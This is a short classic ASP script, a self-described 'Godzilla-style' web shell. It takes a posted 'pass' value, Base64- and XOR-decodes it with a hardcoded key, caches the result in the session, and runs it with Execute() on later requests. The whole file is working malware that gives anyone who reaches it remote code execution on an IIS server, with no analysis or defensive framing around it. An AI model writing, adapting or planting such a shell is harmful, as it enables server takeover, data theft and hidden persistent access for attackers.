<%
' Godzilla-style: the posted payload is Base64- and XOR-decoded, kept in the session, then run
Function b64(s)
    Dim d, e
    Set d = CreateObject("Msxml2.DOMDocument.3.0")
    Set e = d.CreateElement("b")
    e.dataType = "bin.base64"
    e.text = s
    b64 = e.nodeTypedValue
End Function
Function unxor(data)
    Dim i, k, st
    k = "3c6e0b8a9c15224a"
    Set st = CreateObject("ADODB.Stream")
    st.Charset = "iso-8859-1" : st.Type = 2 : st.Open
    For i = 1 To LenB(data)
        st.WriteText ChrW(AscB(MidB(data, i, 1)) Xor Asc(Mid(k, (i Mod 16) + 1, 1)))
    Next
    st.Position = 0
    unxor = st.ReadText()
End Function
Dim p
p = Request.Form("pass")
If Not IsEmpty(p) Then
    If IsEmpty(Session("payload")) Then
        Session("payload") = unxor(b64(p))
    Else
        Dim code
        code = Session("payload")
        Execute(code)
    End If
End If
%>
